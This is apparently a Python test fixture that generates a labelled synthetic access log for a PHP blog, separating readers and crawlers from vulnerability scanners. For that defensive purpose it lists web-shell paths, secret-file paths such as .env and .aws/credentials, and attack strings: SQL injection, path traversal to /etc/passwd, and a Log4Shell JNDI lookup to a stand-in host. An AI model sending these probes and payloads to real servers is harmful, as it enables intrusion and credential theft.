"""A labelled log of a site before it moved here: a PHP site with a blog, its readers, crawlers and scanners.

Written by hand for these tests. Each visit has a network of its own, so that the two halves can be counted apart.
"""

from collections.abc import Iterator, Sequence
from datetime import timedelta
from itertools import count

from support.access_log_import import CLAUDE, CURL, START, combined
from support.traffic_counter import CHROME, GPTBOT

GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BING = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:142.0) Gecko/20100101 Firefox/142.0"
SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5"
    " Mobile/15E148 Safari/604.1"
)
OWN_CHECKER = "our-link-checker"
Visit = tuple[str, Sequence[tuple[str, int]], int]
"""User-Agent, (target, status) one after the other, and seconds between two."""
OLD = [f"/index.php?p={number}" for number in range(40)] + [f"/archive/2014/{number}.html" for number in range(40)]
SHELLS = [
    f"/{name}.php"
    for name in (
        "alfa",
        "wso",
        "shell",
        "x",
        "up",
        "adminer2",
        "cc",
        "mini",
        "r57",
        "c99",
        "ws",
        "leaf",
        "radio",
        "lock360",
    )
]
BLOG = [
    "/wp-login.php",
    "/wp-admin/",
    "/blog/wp-login.php",
    "/wp-includes/wlwmanifest.xml",
    "/xmlrpc.php?rsd",
    "/wordpress/wp-admin/setup-config.php",
]
CONSOLES = [
    "/phpmyadmin/index.php",
    "/pma/",
    "/actuator/health",
    "/solr/admin/info/system",
    "/manager/html",
    "/server-status",
    "/_ignition/health-check",
]
SECRETS = ["/.env", "/.git/config", "/api/.env", "/.aws/credentials", "/config/.env.bak", "/.vscode/sftp.json"]
WORDS = [
    "admin",
    "test",
    "old",
    "new",
    "dev",
    "login",
    "api",
    "backup-2019",
    "portal",
    "intranet",
    "staging",
    "user",
    "cms",
    "beta",
    "shop",
    "webmail",
]
ATTACKS = [
    "/search.php?q=1+union+select+1,2",
    "/view.php?f=../../../../etc/passwd",
    "/a?x=${jndi:ldap://x.example/a}",
    "/cgi-bin/%2e%2e/%2e%2e/bin/sh",
]
BACKUPS = [
    "/backup.zip",
    "/site.tar.gz",
    "/db.sql",
    "/www.rar",
    "/index.php.bak",
    "/dump.sql",
    "/old.zip",
    "/wwwroot.7z",
]
PICTURES = [f"/images/{name}.png" for name in ("a", "b", "c", "d", "e", "f", "g")]
ICONS = [
    "/favicon.ico",
    "/apple-touch-icon.png",
    "/apple-touch-icon-precomposed.png",
    "/apple-touch-icon-120x120.png",
    "/browserconfig.xml",
    "/manifest.json",
]


def all_of(targets: Sequence[str], status: int) -> list[tuple[str, int]]:
    return [(target, status) for target in targets]


PAGE_PARTS = [
    ("/wp-content/themes/old/style.css", 200),
    ("/wp-includes/js/jquery.js", 200),
    ("/wp-admin/admin-ajax.php", 200),
]
"""What a browser loads with a page."""


def honest() -> Iterator[str]:
    """Readers, crawlers, feed readers, libraries, the owner, and an outage."""
    visits: list[Visit] = []
    for place, ua in enumerate((GOOGLE, BING, GPTBOT, CLAUDE)):
        visits += [
            (ua, all_of(OLD, 200), 5),
            (ua, all_of(OLD[:30], 304), 40),
            (ua, all_of(OLD[place:9], 301), 40),
            (ua, all_of(OLD[:9], 404), 20),
            (
                ua,
                [
                    ("/wp-content/uploads/2014/a.jpg", 404),
                    ("/wp-content/uploads/2014/b.jpg", 206),
                    ("/grafana", 404),
                    ("/files/a.zip", 404),
                ],
                9,
            ),
        ]
    for ua in (CHROME, FIREFOX, SAFARI):
        visits += [
            (ua, [*all_of(OLD[:7], 200), *PAGE_PARTS], 6),
            (ua, [("/archive/", 200), *all_of(PICTURES, 404), ("/archive/2", 200)], 3),
            (ua, all_of(ICONS, 404), 1),
            (ua, [("/kibana-tips.html", 200), ("/images/solr.png", 200), ("/gone.html", 404), ("/archive/3", 301)], 30),
            (ua, all_of(OLD[:8], 503), 20),
            (ua, [("/index.php?p=999", 404)], 1),
            (ua, [("/files/tool-1.2.tar.gz", 404)], 1),
            (
                ua,
                [
                    ("/wp-login.php", 200),
                    ("/wp-login.php", 302),
                    ("/wp-admin/", 200),
                    ("/wp-admin/edit.php", 200),
                    ("/index.php", 200),
                ],
                8,
            ),
        ]
    visits += [
        (CURL, [("/files/tool-1.2.zip", 200), ("/files/tool-1.2.zip", 416), ("/feed/rss.php", 200)], 60),
        (OWN_CHECKER, all_of(OLD, 200), 1),
    ]
    return _lines(visits, 1)


def scanners() -> Iterator[str]:
    """Sweeps that were refused, redirected and answered; single probes.

    Scanners that say so, and some under borrowed names.
    """
    sweep = [*BLOG, *SECRETS, *CONSOLES]
    visits: list[Visit] = [
        (CHROME, all_of([*BLOG, *SHELLS], 404), 2),
        (FIREFOX, all_of(SHELLS, 403), 4),
        (CHROME, all_of(sweep, 301), 3),
        ("", all_of(sweep, 302), 5),
        (SAFARI, all_of([*sweep, *BACKUPS, "/", "/admin", "/login.php"], 200), 3),
        ("python-requests/2.32", all_of(sweep, 404), 1),
        (CHROME, all_of([f"/{word}" for word in WORDS], 404), 2),
        ("Mozilla/5.0", all_of([f"/{word}/" for word in WORDS], 404), 10),
        ("curl/7.68.0", all_of(ATTACKS, 200), 30),
        (CHROME, all_of(ATTACKS, 404), 30),
        ("Go-http-client/1.1", all_of(BACKUPS, 404), 5),
        (GOOGLE, all_of([*BLOG, *SECRETS], 404), 10),
        (BING, all_of(SHELLS, 404), 10),
        (GPTBOT, all_of(["/.env", "/.git/config"], 404), 10),
        ("Mozilla/5.00 (Nikto/2.1.6)", all_of(["/", "/index.php", "/cgi-bin/x"], 200), 1),
        ("w3af.org", all_of(["/", "/a.php"], 200), 1),
        (CHROME, all_of(["/xmlrpc.php"] * 6, 200), 2),
    ]
    visits += [
        (ua, [(target, 404)], 1)
        for ua in (CHROME, "", "Go-http-client/1.1")
        for target in (*SECRETS, *BLOG, *CONSOLES[:4])
    ]
    return _lines(visits, 100)


def _lines(visits: Sequence[Visit], first: int) -> Iterator[str]:
    for number, (ua, paths, pause) in zip(count(first), visits, strict=False):
        client = f"198.{18 + number // 250}.{number % 250}.9"
        at = START + timedelta(minutes=number % 300)
        for place, (target, status) in enumerate(paths):
            yield combined(at + timedelta(seconds=pause * place), target, ua or "-", client=client, status=status)
